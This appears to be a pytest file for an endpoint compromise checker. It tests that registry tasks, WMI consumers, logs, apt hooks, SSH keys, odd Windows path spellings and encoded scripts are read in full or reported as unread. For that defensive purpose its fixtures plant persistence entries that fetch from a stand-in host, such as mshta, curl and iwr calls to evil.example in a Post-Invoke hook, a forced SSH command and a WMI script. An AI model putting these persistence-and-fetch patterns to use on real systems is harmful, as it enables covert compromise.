"""What a check does not read wholly, decode or open is found all the same, or told: it never counts as
clean."""

from __future__ import annotations

import struct
import sys
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest

from quetsach.endpoint import checking, machines, windowspath
from quetsach.endpoint.checking import Result
from quetsach.endpoint.machines import hive, live
from quetsach.endpoint.machines.windows import without_letter
from quetsach.endpoint.probes import processes, tasks
from tests.endpoint import hives, world
from tests.endpoint.test_event_witness import event
from tests.endpoint.test_files import EICAR, EICAR_RULE
from tests.endpoint.test_floods import RUN, WMI, gaps
from tests.endpoint.test_list_places import AN, CURRENT, STARTUP, TASK, URL, stored
from tests.endpoint.test_signs import LINUX_CLEAN

TWIN = "http://notevil.example/a"
VOLUME = r"\\?\Volume{4C1B02C1-D990-11DC-99AE-806E6F6E6963}"
MOUNTED = r"C:\Du lieu"
LONG = "a" * 30_000
CACHE = rf"{world.NT}\Schedule\TaskCache"


def indicators(done: Result) -> set[str]:
    return {one.indicator for one in done.findings if one.indicator}


def both(plant: Any) -> tuple[Result, Result]:
    """The check of a machine with an address of the list, and of its twin with another address."""
    found, twin = (world.look_at_recording(world.planted(plant(url))) for url in (URL, TWIN))
    return found, twin


@pytest.mark.recorded
@pytest.mark.parametrize("root", [f"{VOLUME}\\", f"{MOUNTED}\\"])
@pytest.mark.parametrize("is_full", [False, True])
def test_a_volume_without_a_letter_is_looked_at(root: str, is_full: bool) -> None:
    drives = [{"root": "C:\\"}, {"root": root}]
    for content, verdict in ((EICAR, "found"), (world.PE, "clean")):
        told = world.planted({"files": {rf"{root}phan mem\x.exe": content}}) | {"drives": drives}
        wanted = world.Wanted(indicators=world.LISTED, rules=(EICAR_RULE,))
        machine = machines.recording.Recording(world.recording(told))
        done = checking.check(machine, wanted, checking.Options(is_full=is_full))
        assert str(done.verdict) == verdict
        paths = {one.fields["path"] for one in done.observed["files"].items if one.fields["rule"]}
        assert paths == ({rf"{root}phan mem\x.exe"} if verdict == "found" else set())


@pytest.mark.recorded
@pytest.mark.parametrize(
    ("drive", "verdict"),
    [({"reason": "no_permission"}, "unknown"), ({"reason": "locked"}, "unknown"), ({"kind": "raw"}, "clean")],
)
def test_a_volume_that_is_not_looked_at_is_named(drive: dict[str, str], verdict: str) -> None:
    drives = [{"root": "C:\\"}, {"root": f"{VOLUME}\\"} | drive]
    done = world.look_at_recording(world.CLEAN | {"drives": drives})
    assert str(done.verdict) == verdict
    assert f"{VOLUME}\\" in {where for _probe, _why, where in gaps(done)}


def test_volumes_that_no_letter_leads_to() -> None:
    told = [
        ("system", "fixed", ("C:\\",)),
        ("twice", "fixed", ("C:\\Kho\\", "D:\\")),
        ("mounted", "fixed", (f"{MOUNTED}\\", r"C:\b" "\\")),
        ("recovery", "fixed", ()),
    ]
    found = without_letter(told, frozenset({"c:\\", "D:\\"}))
    assert found == [(f"{MOUNTED}\\", "fixed"), ("recovery", "fixed")]


@pytest.mark.parametrize(
    ("path", "spelled"),
    [
        (rf"{VOLUME}\a\..\x.exe", rf"{VOLUME}\x.exe"),
        (rf"\??\{VOLUME[4:]}\x.exe", rf"{VOLUME}\x.exe"),
        (r"\\?\C:\x.exe", r"C:\x.exe"),
        (r"\\.\C:\x.exe", r"C:\x.exe"),
        (r"\\?\UNC\may-chu\a\x.exe", r"\\may-chu\a\x.exe"),
        (r"\??\UNC\may-chu\a\x.exe", r"\\may-chu\a\x.exe"),
    ],
)
def test_other_spellings_of_a_path_are_one_file(path: str, spelled: str) -> None:
    assert windowspath.clean(path) == spelled


@pytest.mark.recorded
@pytest.mark.parametrize(
    ("command", "verdict", "probe"),
    [
        (r"\\?\C:\xa\sau\x.exe -q", "found", ""),
        (rf"{VOLUME}\xa\sau\x.exe -q", "found", ""),
        (r"\\may-chu\chung\x.exe", "clean", "called_elsewhere"),
        (r"\\?\UNC\may-chu\chung\x.exe", "clean", "called_elsewhere"),
        (r"\Device\HarddiskVolume3\x.exe", "unknown", "files"),
        (r"\??\GLOBALROOT\Device\HarddiskVolume3\x.exe", "unknown", "files"),
    ],
)
def test_a_program_by_another_spelling_is_opened_or_named(command: str, verdict: str, probe: str) -> None:
    files = {rf"{root}\xa\sau\x.exe": EICAR for root in ("C:", VOLUME)}
    told = world.planted({"files": files, "registry": {RUN: {"x": command}}})
    done = world.look_at_recording(told | {"drives": [{"root": "C:\\"}]}, rules=(EICAR_RULE,))
    assert str(done.verdict) == verdict
    assert {name for name, _why, where in gaps(done) if where.endswith("x.exe")} == ({probe} - {""})


LONG_TEXTS: dict[str, Any] = {
    "a policy": lambda url: {
        "registry": {r"HKLM\SOFTWARE\Policies\Google\Chrome": {"ExtensionSettings": f'{{"{LONG}":"{url}"}}'}}
    },
    "a policy with an address in figures": lambda url: {
        "registry": {
            r"HKLM\SOFTWARE\Policies\Google\Chrome": {
                "Page": "http://[2001:db8::66]/" if url == URL else "http://[2001:db8::67]/"
            }
        }
    },
    "a typed command": lambda url: {"files": {world.HISTORY: f"echo {LONG}; iwr {url}\n"}},
    "the box Run": lambda url: {
        "registry": {rf"{AN}\{CURRENT}\Explorer\RunMRU": {"a": f"cmd {LONG} {url}\\1"}}
    },
    "a started program": lambda url: {
        "events": {
            "Security.evtx": [
                event(4688, provider="Microsoft-Windows-Security-Auditing", NewProcessName=r"C:\a.exe",
                      CommandLine=f"a.exe {LONG} {url}")
            ]
        }
    },
    "a script of PowerShell's log": lambda url: {
        "events": {
            "Microsoft-Windows-PowerShell%4Operational.evtx": [
                event(4104, provider="Microsoft-Windows-PowerShell",
                      ScriptBlockText="".join(f"a{n}\n" for n in range(2_500)) + f"echo {LONG} {url}")
            ]
        }
    },
    "a transfer": lambda url: {
        "events": {
            "Microsoft-Windows-Bits-Client%4Operational.evtx": [
                event(59, provider="Microsoft-Windows-Bits-Client", url=f"{url}?{LONG}")
            ]
        }
    },
    "a script of WMI": lambda url: {
        "files": {WMI: f"\x01ActiveScriptEventConsumer\0\0' {LONG}\r\nCreateObject(\"{url}\")\0a\0"}
    },
    "a script of WMI with a letter of Vietnam": lambda url: {
        "files": {
            WMI: b"\x01ActiveScriptEventConsumer\0\0' m\xe1y c\xe1 nh\xe2n\r\nGetObject(\"script:"
            + url.encode() + b"\")\0a\0"
        }
    },
    "a command of WMI in two bytes a letter": lambda url: {
        "files": {
            WMI: b"\x01CommandLineEventConsumer\0\0\x01" + f"cmd.exe /c curl {url}\0".encode("utf-16-le")
        }
    },
}  # fmt: skip


@pytest.mark.recorded
@pytest.mark.parametrize("place", LONG_TEXTS)
def test_a_text_is_looked_through_to_its_end(place: str) -> None:
    def raw(url: str) -> dict[str, Any]:
        told: dict[str, Any] = LONG_TEXTS[place](url)
        for path, content in told.get("files", {}).items():
            if isinstance(content, bytes):
                told["files"][path] = content.decode("utf-8", "surrogateescape")
        return told

    listed = world.IndicatorSet([*world.LISTED, *world.parse("2001:db8::66", world.Scope.WITH_SUBDOMAINS)[0]])
    found, twin = (world.look_at_recording(world.planted(raw(url)), indicators=listed) for url in (URL, TWIN))
    assert len(indicators(found)) == 1
    assert indicators(twin) == set()


def test_a_program_behind_many_words_of_a_command_is_opened() -> None:
    unit = "[Service]\nExecStart=/usr/bin/env " + "A=1 " * 30 + "/srv/kho/x\n"
    files = {"/etc/systemd/system/a.service": unit, "/srv/kho/x": "\x7fELF" + EICAR}
    told = LINUX_CLEAN | {"files": LINUX_CLEAN["files"] | files, "registry": {}}
    done = world.look_at_recording(told, rules=(EICAR_RULE.replace(" at 0", ""),))
    assert {one.fields["path"] for one in done.observed["files"].items if one.fields["rule"]} == {
        "/srv/kho/x"
    }


@pytest.mark.parametrize("pad", [5_000, 20_000])
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/etc/apt/apt.conf.d/99a", 'DPkg::Post-Invoke {{"true {pad}; curl {url}";}};\n'),
        ("/root/.ssh/authorized_keys", 'command="true {pad}; curl {url}" ssh-ed25519 AAAA an@x\n'),
    ],
)
def test_a_long_command_of_linux_is_read(path: str, text: str, pad: int) -> None:
    for url, found in ((URL, {"evil.example"}), (TWIN, set())):
        files = LINUX_CLEAN["files"] | {path: text.format(pad="a" * pad, url=url)}
        done = world.look_at_recording(LINUX_CLEAN | {"files": files, "registry": {}})
        assert indicators(done) == found


# --- tasks in the registry ----------------------------------------------------------------------------------


def _wide(text: str) -> bytes:
    raw = text.encode("utf-16-le")
    return struct.pack("<I", len(raw)) + raw


CLASS = "{B1AEBB5D-EAD9-4476-B375-9C3ED9F32AFC}"
BY_CLASS = b"\x77\x77" + _wide("") + UUID(CLASS).bytes_le + _wide("timer")
MESSAGE = b"\x99\x99" + _wide("") + _wide("Chao") + _wide("ban")


def _first_version(command: str, arguments: str) -> bytes:
    """As Windows 8.1 writes it: no account, and no flags behind."""
    return b"\x01\0\x66\x66" + b"".join(map(_wide, ("", command, arguments, "")))


def _task(stored_bytes: bytes, name: str = "Cap nhat", **more: Any) -> dict[str, Any]:
    return {
        "registry": {
            rf"{CACHE}\Tree\{name}": {"Id": TASK, "SD": b"\1"},
            rf"{CACHE}\Tasks\{TASK}": {"Actions": stored_bytes},
        },
        **more,
    }


def test_actions_of_tasks_in_every_form() -> None:
    head = stored("a.exe", "b")[:-2]
    run = [("a.exe", "b")]
    by_class = [(CLASS, "timer")]
    for content, runs in (
        (_first_version("a.exe", "b"), run),
        (b"\x02\0" + head[2:], run),
        (head + b"\0\0", run),
        (head + b"\0\0" + BY_CLASS + MESSAGE, [*run, *by_class]),
        (
            b"\x03\0" + _wide("Author") + BY_CLASS + head[head.index(b"\x66\x66") :] + b"\0\0",
            [*by_class, *run],
        ),
        (_first_version("a.exe", "b") + _first_version("c", "d")[2:], [*run, ("c", "d")]),
        (b"\x03\0" + _wide("Author") + MESSAGE, []),
    ):
        assert tasks.stored_actions(content.hex()) == (runs, True)


@pytest.mark.recorded
@pytest.mark.parametrize(
    "content",
    [
        stored("mshta.exe", URL)[:-9], b"\x09\0" + stored("a", "b")[2:],
        b"\x03\0" + _wide("Author") + b"\x55\x55", b"\xff" * 40, b"\x03\0" + _wide("Author"),
    ],
)  # fmt: skip
def test_a_task_of_the_registry_that_cannot_be_read_is_named(content: bytes) -> None:
    done = world.look_at_recording(world.planted(_task(content)))
    assert str(done.verdict) == "unknown"
    assert ("tasks", "damaged", rf"{CACHE}\Tasks\{TASK}\Actions") in gaps(done)


@pytest.mark.recorded
def test_a_task_that_was_changed_in_the_registry_alone_is_seen() -> None:
    file = {rf"{world.TASKS}\Cap nhat": world.task(r"C:\Windows\System32\sc.exe", "query")}
    found, twin = both(lambda url: _task(stored("mshta.exe", url), files=file))
    assert (indicators(found), indicators(twin)) == ({"evil.example"}, set())
    assert [str(one.verdict) for one in (found, twin)] == ["found", "clean"]


@pytest.mark.recorded
def test_a_task_that_no_list_shows_is_seen() -> None:
    def plant(url: str) -> dict[str, Any]:
        told = _task(stored("mshta.exe", url))
        del told["registry"][rf"{CACHE}\Tree\Cap nhat"]
        return told

    found, twin = both(plant)
    assert (indicators(found), str(twin.verdict)) == ({"evil.example"}, "clean")


@pytest.mark.recorded
def test_the_task_of_windows_itself_shows_nothing() -> None:
    name = r"Microsoft\Windows\SoftwareProtectionPlatform\SvcRestartTask"
    content = b"\x03\0" + _wide("NetworkService") + BY_CLASS
    done = world.look_at_recording(world.planted(_task(content, name)))
    assert (str(done.verdict), list(done.findings)) == ("clean", [])
    own = [one for one in done.observed["tasks"].items if one.fields["name"] == "SvcRestartTask"]
    assert len(own) == 1, "the file and the registry say the same"


@pytest.mark.recorded
@pytest.mark.parametrize("place", ["files", "registry"])
def test_tasks_deeper_than_is_read_are_told(place: str) -> None:
    deep = "\\".join("abcdefghijkl")
    plant = {
        "files": {"files": {rf"{world.TASKS}\{deep}": world.task("a.exe")}},
        "registry": {"registry": {rf"{CACHE}\Tree\{deep}": {"SD": b"\1"}}},
    }[place]
    done = world.look_at_recording(world.planted(plant))
    assert ("tasks", "too_long") in {(name, why) for name, why, _where in gaps(done)}


# --- values of another kind ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", [0, 3, 8])
@pytest.mark.parametrize("spelling", ["utf-16-le", "ascii"])
@pytest.mark.parametrize("key", [RUN, rf"{world.SERVICES}\cap"])
def test_a_command_in_binary_data_is_read(
    key: str, spelling: str, kind: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write = hives.Hive._value

    def of_kind(self: Any, name: str, told: Any) -> int:
        at = write(self, name, told)
        if isinstance(told, bytes):
            struct.pack_into("<I", self._cells, at + 4 + 12, kind)
        return at

    monkeypatch.setattr(hives.Hive, "_value", of_kind)
    for number, (url, verdict) in enumerate(((URL, "found"), (TWIN, "clean"))):
        raw = f"mshta {url}\0".encode(spelling) + b"\1\2"
        told = world.planted({"registry": {key: {"ImagePath": raw}}})
        assert str(world.look_at_tree(told, tmp_path / str(number)).verdict) == verdict


@pytest.mark.parametrize(
    "raw",
    [
        bytes.fromhex("0100000000000000"), b"1234567", bytes(range(1, 33)),
        "年月日時分秒年月日時".encode("utf-16-le"),
        struct.pack("<IIII", 24, 0, 3, 4) + b"a:80",
    ],
)  # fmt: skip
def test_other_binary_data_stay_bytes(raw: bytes) -> None:
    assert hive.text_of(raw) == (raw.hex(), "")


# --- processes and encoded scripts --------------------------------------------------------------------------


@pytest.mark.skipif(sys.platform != "linux", reason="needs /proc")
def test_programs_that_an_account_may_not_see_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
    def closed(self: Path) -> Path:
        raise PermissionError(13, "closed", str(self))

    def gone(self: Path) -> Path:
        raise FileNotFoundError(2, "a thread of the kernel", str(self))

    for answer, told in ((closed, {("no_permission", "/proc")}), (gone, set())):
        monkeypatch.setattr(live.Path, "readlink", answer)
        seen = processes.PROBE.run(machines.here())
        assert {(gap.reason, gap.detail) for gap in seen.gaps} == told


@pytest.mark.recorded
def test_an_encoded_part_of_a_script_is_named() -> None:
    text = f"<job>{'<!-- x -->' * 200}<script language='JScript.Encode'>#@~^AAAA==</script></job>"
    done = world.look_at_recording(world.planted({"files": {rf"{STARTUP}\a.wsf": text}}))
    assert str(done.verdict) == "unknown"
    assert ("startup_texts", "encoded", rf"{STARTUP}\a.wsf") in gaps(done)
